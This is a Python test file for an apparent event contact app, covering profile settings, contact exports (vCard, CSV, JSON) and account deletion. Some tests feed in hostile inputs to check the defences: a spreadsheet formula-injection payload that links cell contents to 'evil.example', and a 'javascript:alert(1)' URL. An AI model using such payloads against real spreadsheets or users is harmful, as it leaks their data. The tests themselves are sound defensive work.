"""Profile, export (vCard, CSV, JSON) and deleting my account with everything I own."""

import csv
import html
import io
import json
import re

from eventmate.badges import parse_vcard_bytes
from eventmate.models import Contact, Event, LoginSession, User
from tests.conftest import STRONG_PASSWORD

from .helpers import card_link, contacts_of, count, create_event, scan, visible_text

BADGE = "MECARD:N:Owen,Sean;TEL:+12125658770;EMAIL:srowen@example.com;;"


def _card(**overrides):
    return {"display_name": "Ben Okafor", **overrides}


def _reminders(**overrides):
    fields = {"timezone": "Africa/Lagos", "reminder_hour": "07:00", "reminder_channel": "auto"}
    return fields | overrides


def test_the_profile_is_a_short_page_leading_to_three(app, ben):
    page = visible_text(ben.get("/account/"))
    for section in ("My card", "Reminders", "Account & data", "Events", "Log out"):
        assert section in page
    assert "Each morning at 09:00" in page
    for path in ("/account/card", "/account/reminders", "/account/data"):
        assert ben.get(path).status_code == 200


def test_card_details_update_and_validation(app, ana, ben):
    assert ben.post("/account/card", data=_card(headline="Founder")).status_code == 302
    page = html.unescape(ben.get("/account/card").get_data(as_text=True))
    assert 'value="Founder"' in page
    bad = ben.post("/account/card", data=_card(website="javascript:alert(1)", display_name=""))
    assert bad.status_code == 422
    assert "Start with https://" in html.unescape(bad.get_data(as_text=True))


def test_reminders_update_and_validation(app, ben, accounts):
    assert ben.post("/account/reminders", data=_reminders()).status_code == 302
    page = html.unescape(ben.get("/account/reminders").get_data(as_text=True))
    assert 'value="Africa/Lagos"' in page and 'type="time"' in page and 'value="07:00"' in page
    assert accounts.user("ben@example.org").reminder_hour == 7
    bad = ben.post(
        "/account/reminders", data=_reminders(timezone="Mars/Base", reminder_hour="24:00")
    )
    assert bad.status_code == 422
    text = html.unescape(bad.get_data(as_text=True))
    assert "Pick a time zone" in text and "Pick a time, e.g. 09:00." in text


def test_the_reminder_time_is_a_whole_hour(app, ben, accounts):
    for bad in ("07:30", "07:00:15", "7", "", "seven", "07:00pm", "1e3"):
        response = ben.post("/account/reminders", data=_reminders(reminder_hour=bad))
        assert response.status_code == 422, bad
        assert "Pick a " in visible_text(response)
    assert accounts.user("ben@example.org").reminder_hour == 9
    assert ben.post("/account/reminders", data=_reminders(reminder_hour="00:00")).status_code == 302
    assert accounts.user("ben@example.org").reminder_hour == 0
    assert (
        ben.post("/account/reminders", data=_reminders(reminder_hour="23:00:00")).status_code == 302
    )
    assert accounts.user("ben@example.org").reminder_hour == 23


def test_reminders_switch_off_and_on(app, ben, accounts):
    ben.post("/account/reminders", data=_reminders(reminder_channel="none"))
    assert accounts.user("ben@example.org").push_enabled is False
    assert "Off" in visible_text(ben.get("/account/"))
    ben.post("/account/reminders", data=_reminders())
    assert accounts.user("ben@example.org").push_enabled is True


def test_a_form_not_saved_says_so_at_the_top_of_the_page(app, ana, ben):
    for path, bad in (
        ("/account/reminders", _reminders(timezone="Mars/Base")),
        ("/account/card", _card(display_name="")),
    ):
        response = ben.post(path, data=bad)
        assert response.status_code == 422
        page = visible_text(response)
        assert page.index("Not saved yet: check what's marked below.") < page.index("Save")
    response = ben.post("/account/reminders", data=_reminders(), follow_redirects=True)
    assert "Reminders saved." in visible_text(response) and "Not saved" not in visible_text(
        response
    )


def test_exports_hold_all_my_contacts_and_only_mine(app, ana, ben):
    scan(ana, "MECARD:N:Secret,Anas;EMAIL:anas-secret@example.com;;")
    event_id = create_event(ben, "DevConf")
    contact_id = scan(ben, BADGE).get_json()["id"]
    ben.post(
        f"/contacts/{contact_id}/edit",
        data={
            "full_name": "Sean Owen",
            "new_tags": "barcodes",
            "event_id": event_id,
            "notes": '=HYPERLINK("http://x")',
        },
    )
    scan(ben, card_link(app, "ana@example.org"))

    vcf = ben.get("/account/export/contacts.vcf")
    assert vcf.mimetype == "text/vcard"
    cards = parse_vcard_bytes(vcf.data)
    assert sorted(card.full_name for card in cards) == ["Ana Ribeiro", "Sean Owen"]

    rows = list(
        csv.DictReader(io.StringIO(ben.get("/account/export/contacts.csv").get_data(as_text=True)))
    )
    assert sorted(row["name"] for row in rows) == ["Ana Ribeiro", "Sean Owen"]
    sean = next(row for row in rows if row["name"] == "Sean Owen")
    assert sean["tags"] == "barcodes" and sean["event"] == "DevConf"
    assert sean["notes"].startswith("'=")  # no formula injection in spreadsheets

    data = json.loads(ben.get("/account/export/data.json").data)
    assert data["profile"]["email"] == "ben@example.org"
    assert [event["name"] for event in data["events"]] == ["DevConf"]
    assert sorted(contact["name"] for contact in data["contacts"]) == ["Ana Ribeiro", "Sean Owen"]
    assert "anas-secret" not in json.dumps(data)


def test_exports_keep_what_an_unidentified_code_said(app, ben):
    contact_id = scan(ben, "https://speaker.example/42").get_json()["id"]
    ben.post(f"/contacts/{contact_id}/edit", data={"notes": "Spoke after the keynote."})
    said = "The code said: https://speaker.example/42\nSpoke after the keynote."

    [card] = parse_vcard_bytes(ben.get("/account/export/contacts.vcf").data)
    assert (card.full_name, card.note) == ("Someone to identify", said)
    [row] = csv.DictReader(
        io.StringIO(ben.get("/account/export/contacts.csv").get_data(as_text=True))
    )
    assert row["notes"] == said


def test_delete_account_needs_password_and_confirmation(app, ben):
    response = ben.post(
        "/account/delete", data={"password": "wrong password!!", "confirm": "DELETE"}
    )
    assert response.status_code == 422
    response = ben.post("/account/delete", data={"password": STRONG_PASSWORD, "confirm": "delete"})
    assert response.status_code == 422
    assert count(app, User) == 1


def test_delete_account_removes_everything_i_own(app, ana, ben, accounts, make_client):
    create_event(ben, "Only Ben")
    shared_event = create_event(ana, "Shared")
    with app.app_context():
        from eventmate.extensions import db

        code = db.session.get(Event, shared_event).join_code
    ben.post("/events/join", data={"code": code})
    contact_id = scan(ben, BADGE).get_json()["id"]
    ben.post(
        f"/contacts/{contact_id}/edit",
        data={"full_name": "Sean Owen", "new_tags": "x", "answer-enjoy": "y"},
    )
    scan(ben, card_link(app, "ana@example.org"))
    response = ben.post("/account/delete", data={"password": STRONG_PASSWORD, "confirm": "DELETE"})
    assert response.status_code == 302

    assert accounts.user("ben@example.org") is None
    assert count(app, LoginSession) == 1  # Ana's
    [anas_copy] = contacts_of(app, "ana@example.org")
    assert anas_copy.full_name == "Ben Okafor" and anas_copy.linked_user_id is None
    assert count(app, Contact) == 1
    with app.app_context():
        from eventmate.extensions import db

        names = db.session.scalars(db.select(Event.name)).all()
    assert names == ["Shared"]
    assert accounts.login(make_client()).status_code == 302  # Ana still fine
    assert accounts.login(make_client(), email="ben@example.org").status_code == 400


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_csv_quotes_every_cell_and_starts_no_formula_in_any_field(app, ben, accounts):
    """Hostile text in every exported field, at the start and after each cell start."""
    from eventmate.extensions import db
    from eventmate.models import Tag

    def hostile(field: str) -> str:
        return f"{HOSTILE}\n@{field}\t-1,+2; =3"

    owner = accounts.user("ben@example.org")
    with app.app_context():
        event = Event(name=hostile("event")[:120], created_by_id=owner.id)
        tag = Tag(owner_id=owner.id, name="+tag", key="+tag")
        contact = Contact(
            owner_id=owner.id,
            source="to_identify",
            full_name=hostile("name"),
            title=hostile("title"),
            company=hostile("company"),
            emails=[hostile("email")],
            phones=["+351 912 345 678", hostile("phone")],
            urls=[hostile("url")],
            raw_payload=hostile("payload"),
            notes=hostile("notes"),
            event=event,
            tags=[tag],
        )
        db.session.add(contact)
        db.session.commit()

    body = ben.get("/account/export/contacts.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    every_cell_quoted = io.StringIO()
    csv.writer(every_cell_quoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert body == every_cell_quoted.getvalue()
    [row] = csv.DictReader(io.StringIO(body))
    assert row["phones"].startswith("'+351 912 345 678; '=HYPERLINK(")
    assert row["tags"] == "'+tag"
    for column, value in row.items():
        for start in re.split(r"[\t\r\n,;]", value):
            assert not start.lstrip().startswith(("=", "+", "-", "@")), (column, start)
    carried = [column for column, value in row.items() if HOSTILE[1:] in value]
    assert carried == ["name", "title", "company", "emails", "phones", "urls", "event", "notes"]
